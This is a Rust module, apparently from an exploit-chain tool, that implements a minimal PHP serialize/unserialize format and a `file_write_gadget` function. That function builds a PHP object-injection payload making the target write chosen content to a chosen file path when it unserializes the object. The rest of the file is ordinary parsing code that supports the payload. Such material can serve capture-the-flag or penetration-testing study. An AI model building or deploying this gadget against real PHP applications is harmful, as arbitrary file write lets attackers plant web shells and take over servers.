//! Just enough of PHP's `serialize()` format to build and check the
//! file-writing object graph: strings and objects with string keys.

use crate::errors::ChainError;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PhpValue {
    Str(String),
    Object {
        class: String,
        fields: Vec<(String, PhpValue)>,
    },
}

impl PhpValue {
    pub fn str(value: &str) -> Self {
        PhpValue::Str(value.to_string())
    }

    pub fn object(class: &str, fields: Vec<(&str, PhpValue)>) -> Self {
        PhpValue::Object {
            class: class.to_string(),
            fields: fields.into_iter().map(|(k, v)| (k.to_string(), v)).collect(),
        }
    }

    /// Lengths are byte counts, as PHP expects.
    pub fn serialize(&self) -> String {
        match self {
            PhpValue::Str(s) => format!("s:{}:\"{}\";", s.len(), s),
            PhpValue::Object { class, fields } => {
                let mut out = format!("O:{}:\"{}\":{}:{{", class.len(), class, fields.len());
                for (key, value) in fields {
                    out.push_str(&PhpValue::Str(key.clone()).serialize());
                    out.push_str(&value.serialize());
                }
                out.push('}');
                out
            }
        }
    }

    pub fn field(&self, name: &str) -> Option<&PhpValue> {
        match self {
            PhpValue::Object { fields, .. } => fields.iter().find(|(k, _)| k == name).map(|(_, v)| v),
            PhpValue::Str(_) => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            PhpValue::Str(s) => Some(s),
            PhpValue::Object { .. } => None,
        }
    }
}

/// `UserObject{username, file: FileObject{filename, filecontent}}`. The
/// target writes `filecontent` to `filename` when it unserializes this.
pub fn file_write_gadget(path: &str, content: &str) -> PhpValue {
    PhpValue::object("UserObject", vec![
        ("username", PhpValue::str("test")),
        ("file", PhpValue::object("FileObject", vec![
            ("filename", PhpValue::str(path)),
            ("filecontent", PhpValue::str(content)),
        ])),
    ])
}

/// Path and content carried by a gadget built with [`file_write_gadget`].
pub fn gadget_target(value: &PhpValue) -> Option<(&str, &str)> {
    let file = value.field("file")?;
    Some((file.field("filename")?.as_str()?, file.field("filecontent")?.as_str()?))
}

pub fn unserialize(input: &str) -> Result<PhpValue, ChainError> {
    let mut parser = Parser { input: input.as_bytes(), pos: 0 };
    let value = parser.value()?;
    if parser.pos != parser.input.len() {
        return Err(parser.error("trailing data"));
    }
    Ok(value)
}

struct Parser<'a> {
    input: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn error(&self, what: &str) -> ChainError {
        ChainError::Internal(format!("unserialize: {} at byte {}", what, self.pos))
    }

    fn expect(&mut self, token: &[u8]) -> Result<(), ChainError> {
        if self.input[self.pos..].starts_with(token) {
            self.pos += token.len();
            Ok(())
        } else {
            Err(self.error(&format!("expected '{}'", String::from_utf8_lossy(token))))
        }
    }

    fn number(&mut self, terminator: u8) -> Result<usize, ChainError> {
        let start = self.pos;
        while self.pos < self.input.len() && self.input[self.pos].is_ascii_digit() {
            self.pos += 1;
        }
        let digits = std::str::from_utf8(&self.input[start..self.pos]).map_err(|_| self.error("bad length"))?;
        let n = digits.parse().map_err(|_| self.error("bad length"))?;
        self.expect(&[terminator])?;
        Ok(n)
    }

    fn take(&mut self, len: usize) -> Result<String, ChainError> {
        let end = self.pos.checked_add(len).filter(|&end| end <= self.input.len())
            .ok_or_else(|| self.error("length past end of input"))?;
        let bytes = &self.input[self.pos..end];
        self.pos = end;
        String::from_utf8(bytes.to_vec()).map_err(|_| self.error("invalid utf-8"))
    }

    fn value(&mut self) -> Result<PhpValue, ChainError> {
        match self.input.get(self.pos).copied() {
            Some(b's') => {
                self.expect(b"s:")?;
                let len = self.number(b':')?;
                self.expect(b"\"")?;
                let s = self.take(len)?;
                self.expect(b"\";")?;
                Ok(PhpValue::Str(s))
            }
            Some(b'O') => {
                self.expect(b"O:")?;
                let len = self.number(b':')?;
                self.expect(b"\"")?;
                let class = self.take(len)?;
                self.expect(b"\":")?;
                let count = self.number(b':')?;
                self.expect(b"{")?;
                let mut fields = Vec::new();
                for _ in 0..count {
                    let key = match self.value()? {
                        PhpValue::Str(k) => k,
                        PhpValue::Object { .. } => return Err(self.error("object used as property name")),
                    };
                    fields.push((key, self.value()?));
                }
                self.expect(b"}")?;
                Ok(PhpValue::Object { class, fields })
            }
            _ => Err(self.error("unsupported value type")),
        }
    }
}
